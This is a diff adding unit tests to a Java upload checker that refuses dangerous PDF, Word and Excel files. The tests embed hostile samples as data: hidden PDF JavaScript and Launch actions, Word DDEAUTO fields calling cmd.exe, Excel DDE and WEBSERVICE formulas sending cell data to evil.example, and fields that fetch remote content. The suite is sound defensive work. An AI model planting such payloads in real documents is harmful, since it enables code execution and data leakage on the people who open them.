@@ -13,6 +13,8 @@ import java.nio.file.Path;
 import java.time.Duration;
 import java.time.Instant;
 import java.util.Arrays;
+import java.util.List;
+import java.util.Random;
 import javax.imageio.ImageIO;
 import org.apache.pdfbox.cos.COSArray;
 import org.apache.pdfbox.cos.COSDictionary;
@@ -28,6 +30,7 @@ import vn.motcua.vocabulary.InvalidInput;
 class ContentCheckTest {
 
     private static final long LIMIT = 20 << 20;
+    private static final String SCRIPT = "9 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n";
 
     @TempDir
     Path folder;
@@ -220,19 +223,109 @@ class ContentCheckTest {
     }
 
     @Test
-    void aPdfThatIsSlowToSearchIsGivenUpAndReallyEnds() throws Exception {
-        var hasty = new ContentCheck(new BoundedWork(Duration.ofMillis(300)));
-        var slow =
-                new StringBuilder("%PDF-1.4\n").repeat("1 0 obj\n", 1_000_000).toString();
-        var received = contents.receive(new ByteArrayInputStream(slow.getBytes(StandardCharsets.ISO_8859_1)), LIMIT);
-
-        assertThatThrownBy(() -> hasty.check(received, FileName.of("a.pdf"), contents))
-                .hasMessageContaining("thời gian");
-        for (var reading : Thread.getAllStackTraces().keySet()) {
-            if (reading.getName().equals("file-check")) {
-                assertThat(reading.join(Duration.ofSeconds(5))).isTrue();
-            }
+    void aPdfOfObjectsWithoutEndsIsRefusedAtOnceAndNotSearched() {
+        var hasty = new ContentCheck(new BoundedWork(Duration.ofSeconds(3)));
+        var headings = new StringBuilder("%PDF-1.4\n");
+        for (int i = 1; i < 300_000; i++) {
+            headings.append(i).append(" 0 obj<</Length 99999999>>stream\n");
         }
+        assertRefused(hasty, latin(headings.toString()), "bị hỏng");
+        assertRefused(hasty, SamplePdf.ofObjectsWithoutEnds(150_000), "bị hỏng");
+    }
+
+    @Test
+    void aReadingThatIsGivenUpEndsAtItsNextByte() throws IOException {
+        var received = contents.receive(new ByteArrayInputStream(SampleFiles.pdf()), LIMIT);
+        try (var reading = new StoppableRead(received.path().toFile())) {
+            Thread.currentThread().interrupt();
+            assertThatThrownBy(reading::read).isInstanceOf(java.util.concurrent.CancellationException.class);
+        } finally {
+            assertThat(Thread.interrupted()).isTrue();
+        }
+    }
+
+    @Test
+    void whatIsWrittenIntoThePdfsOfTheseTestsByHandIsTakenInWhenItIsWhole() throws IOException {
+        assertThat(check(SamplePdf.plain().build(), "a.pdf").type()).isEqualTo(FileType.PDF);
+        assertThat(check(SamplePdf.plain().object(4, "(1 0 R)").build(), "a.pdf")
+                        .type())
+                .isEqualTo(FileType.PDF);
+    }
+
+    @ParameterizedTest
+    @ValueSource(ints = {-7, 2, 99_999})
+    void aPdfThatReadersWouldRepairEachInTheirWayIsRefused(int wrong) {
+        assertRefused(SamplePdf.plain().wrongBy(wrong).build(), "a.pdf", "in lại");
+        assertRefused(SamplePdf.opening("9 0 R").hidden(SCRIPT).wrongBy(wrong).build(), "a.pdf", "in lại");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                SCRIPT,
+                "9 0 %\nobj<</S/JavaScript/JS(app.alert(1))>>endobj\n",
+                "9\u00a00\u000bobj<</S/JavaScript/JS(app.alert(1))>>endobj\n",
+                "trailer<</Root<</OpenAction<</S/JavaScript/JS(1)>>>>>>\n",
+                "startxref\n9\n%%EOF\n",
+            })
+    void whatTheCrossReferenceOfAPdfDoesNotKnowIsRefused(String hidden) {
+        boolean isBehind = hidden.startsWith("startxref");
+        var pdf = SamplePdf.opening("9 0 R").hidden(isBehind ? "" : hidden).build();
+        var tail = isBehind ? "startxref\n9\n" : "";
+        assertRefused(latin(new String(pdf, StandardCharsets.ISO_8859_1) + tail), "a.pdf", "mục lục");
+    }
+
+    @Test
+    void anObjectHiddenInAStreamIsRefused() {
+        var stream = "<</Length 54>>stream\nendobj\n" + SCRIPT.strip() + "\nendstream";
+        assertRefused(SamplePdf.opening("9 0 R").object(4, stream).build(), "a.pdf", "mục lục");
+    }
+
+    @Test
+    void whatAPdfReplacedOrFreedIsStillLookedAt() throws IOException {
+        var script = SamplePdf.plain()
+                .object(4, "<</S/JavaScript/JS(app.alert(1))>>")
+                .build();
+        var plain = SamplePdf.plain().object(4, "<<>>").build();
+
+        assertThat(check(SamplePdf.replacing(plain, 4, "(other)"), "a.pdf").type())
+                .isEqualTo(FileType.PDF);
+        assertRefused(SamplePdf.replacing(script, 4, "(other)"), "a.pdf", "JavaScript");
+    }
+
+    @Test
+    void anObjectPackedInsideAnotherIsFound() throws IOException {
+        var object = "<</A(<</S/Launch>>)>>";
+        assertThat(check(SamplePdf.packing("6 0 7 0 ", object), "a.pdf").type()).isEqualTo(FileType.PDF);
+        assertRefused(SamplePdf.packing("6 0 7 5 ", object), "a.pdf", "mở chương trình");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://evil.example/)>>>>",
+                "<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/Print>><</S/URI/URI(http://evil.example/)>>]>>",
+                "<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>",
+            })
+    void aPdfThatGoesOutWithItsSecondActionIsRefused(String actions) {
+        var next = "<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(http://evil.example/)>>]>>";
+        assertRefused(SamplePdf.opening(actions).object(4, next).build(), "a.pdf", "trang mạng");
+    }
+
+    @Test
+    void actionsThatFollowEachOtherInACircleComeToAnEnd() throws IOException {
+        var circle = SamplePdf.opening("4 0 R")
+                .object(4, "<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>")
+                .build();
+        assertThat(check(circle, "a.pdf").type()).isEqualTo(FileType.PDF);
+    }
+
+    @Test
+    void aPdfWhoseContentLiesInAnotherFileIsRefused() {
+        var stream = "<</Length 0/F(\\\\\\\\evil\\\\a)/FFilter/FlateDecode>>stream\n\nendstream";
+        var other = "<</Type/XObject/Subtype/Form/Length 0/Ref<</F(a.pdf)/Page 0>>>>stream\n\nendstream";
+        assertRefused(SamplePdf.plain().object(4, stream).build(), "a.pdf", "mở tệp khác");
+        assertRefused(SamplePdf.plain().object(4, other).build(), "a.pdf", "mở tệp khác");
     }
 
     @Test
@@ -255,6 +348,123 @@ class ContentCheckTest {
         assertRefused(SampleFiles.wordWith("xl/externalLinks/externalLink1.xml", "<x/>"), "a.docx", "bên ngoài");
     }
 
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k",
+                " dde excel a",
+                "INCLUDEPICTURE http://evil.example/x.png \\d",
+                "INCLUDETEXT \\\\\\\\evil.example\\\\a.docx",
+                "INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE x",
+                "INC</w:instrText></w:r><w:r><w:t>LUDETEXT x</w:t></w:r><w:r><w:instrText>",
+                "</w:instrText><w:fldChar w:fldCharType='begin'/><w:instrText>QUOTE 68 68 69</w:instrText>"
+                        + "<w:fldChar w:fldCharType='end'/><w:instrText> cmd",
+            })
+    void aFieldThatLoadsOrCallsIsRefusedHoweverItIsPieced(String instruction) {
+        assertRefused(SampleFiles.wordWith("word/document.xml", field(instruction)), "a.docx", "bên ngoài");
+        assertRefused(SampleFiles.wordWith("word/odd.name", field(instruction)), "a.docx", "bên ngoài");
+    }
+
+    @Test
+    void aFieldInOnePieceThatLoadsIsRefused() {
+        var simple = word("<w:fldSimple w:instr=' INCLUDEPICTURE \"http://evil.example/x.png\" '/>");
+        assertRefused(SampleFiles.wordWith("word/document.xml", simple), "a.docx", "bên ngoài");
+    }
+
+    @Test
+    void fieldsThatWordWritesItselfAreTakenIn() throws IOException {
+        var nested = "IF </w:instrText><w:fldChar w:fldCharType='begin'/><w:instrText>PAGE</w:instrText>"
+                + "<w:fldChar w:fldCharType='separate'/><w:t>1</w:t><w:fldChar w:fldCharType='end'/><w:instrText> = 1 a b";
+        var contents = "TOC</w:instrText><w:fldChar w:fldCharType='separate'/><w:fldChar w:fldCharType='begin'/>"
+                + "<w:instrText>HYPERLINK \\l _Toc1</w:instrText><w:fldChar w:fldCharType='end'/><w:instrText>";
+        for (var instruction :
+                List.of("PAGE", " MERGEFIELD Address ", "=</w:instrText><w:instrText>1+1", nested, contents)) {
+            assertThat(check(SampleFiles.wordWith("word/document.xml", field(instruction)), "a.docx")
+                            .type())
+                    .isEqualTo(FileType.DOCX);
+        }
+    }
+
+    @Test
+    void aDrawingWhosePictureLiesElsewhereIsRefusedAndALinkIsNot() throws IOException {
+        var shape =
+                "<v:shape xmlns:v='urn:schemas-microsoft-com:vml' href='http://a.example/'><v:imagedata src='%s'/>%s</v:shape>";
+
+        assertRefused(drawing(shape.formatted("http://evil.example/x.png", "")), "a.docx", "bên ngoài");
+        assertRefused(drawing(shape.formatted("\\\\evil\\a.png", "<br>")), "a.docx", "bên ngoài");
+        assertThat(check(drawing(shape.formatted("image1.png", "<br>")), "a.docx")
+                        .type())
+                .isEqualTo(FileType.DOCX);
+    }
+
+    private static byte[] drawing(String shape) {
+        return SampleFiles.wordWith("word/drawing1.vml", shape);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"externalLink", "connections", "queryTable", "attachedTemplate"})
+    void whatASheetLoadsIsFoundByItsRelationWhateverThePartIsCalled(String relation) {
+        var relations = "<Relationships><Relationship Id='r' Type='http://x/relationships/" + relation
+                + "' Target='foo/c.xml'/></Relationships>";
+        assertRefused(SampleFiles.excelWith("xl/_rels/workbook.xml.rels", relations), "a.xlsx", "bên ngoài");
+    }
+
+    @Test
+    void whatASheetLoadsIsFoundByItsTypeAndByItsContentToo() {
+        var types =
+                "<Types><Override PartName='/xl/foo/c.xml' ContentType='application/vnd.openxmlformats-officedocument."
+                        + "spreadsheetml.connections+xml'/></Types>";
+        var link = "<externalReference><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalReference>";
+        assertRefused(SampleFiles.excelWith(SampleFiles.TYPES_PART, types), "a.xlsx", "bên ngoài");
+        assertRefused(SampleFiles.excelWith("xl/foo/dde.bin", link), "a.xlsx", "bên ngoài");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "<f>_xlfn.WEBSERVICE(\"http://evil.example/\"&amp;B1)</f>",
+                "<f>cmd|'/c calc'!A0</f>",
+                "<f>'cmd'|'/c calc'!A0</f>",
+                "<f>1+rtd (\"a\")</f>",
+                "<definedName>'\\\\evil\\a\\[b.xlsx]S'!A1</definedName>",
+                "<formula1>IMAGE(A1)</formula1>",
+            })
+    void aFormulaThatLoadsOrCallsIsRefused(String formula) {
+        assertRefused(SampleFiles.excelWith("xl/worksheets/sheet1.xml", cells(formula)), "a.xlsx", "bên ngoài");
+    }
+
+    @Test
+    void formulasThatReckonAreTakenIn() throws IOException {
+        var plain = "<f>IF(A1=\"a|b http://c\",SUM('x|y'!A1:B2),HYPERLINK(\"http://a.example\",\"a\"))</f>";
+        var random = new Random(7);
+        var many = new StringBuilder(plain);
+        for (int i = 0; i < 100_000; i++) {
+            many.append("<c r='A").append(i).append("'><f>A1*").append(random.nextInt()).append("</f></c>");
+        }
+        assertThat(check(SampleFiles.excelWith("xl/worksheets/sheet1.xml", cells(many.toString())), "a.xlsx")
+                        .type())
+                .isEqualTo(FileType.XLSX);
+    }
+
+    private static String cells(String formulas) {
+        return "<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>" + formulas
+                + "</worksheet>";
+    }
+
+    private static String field(String instruction) {
+        return word("<w:r><w:fldChar w:fldCharType='begin'/><w:instrText>" + instruction
+                + "</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r>");
+    }
+
+    private static String word(String text) {
+        return "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'>" + text
+                + "</w:document>";
+    }
+
+    private static byte[] latin(String text) {
+        return text.getBytes(StandardCharsets.ISO_8859_1);
+    }
+
     @Test
     void workThatTakesTooLongIsGivenUp() {
         var hasty = new BoundedWork(Duration.ofMillis(50));
@@ -272,6 +482,13 @@ class ContentCheckTest {
     private ContentCheck.Checked check(byte[] content, String name) throws IOException {
         var received = contents.receive(new ByteArrayInputStream(content), LIMIT);
         return check.check(received, FileName.of(name), contents);
+    }
+
+    private void assertRefused(ContentCheck check, byte[] content, String reason) {
+        assertThatThrownBy(() -> check.check(
+                        contents.receive(new ByteArrayInputStream(content), LIMIT), FileName.of("a.pdf"), contents))
+                .isInstanceOf(InvalidInput.class)
+                .hasMessageContaining(reason);
     }
 
     private void assertRefused(byte[] content, String name, String reason) {
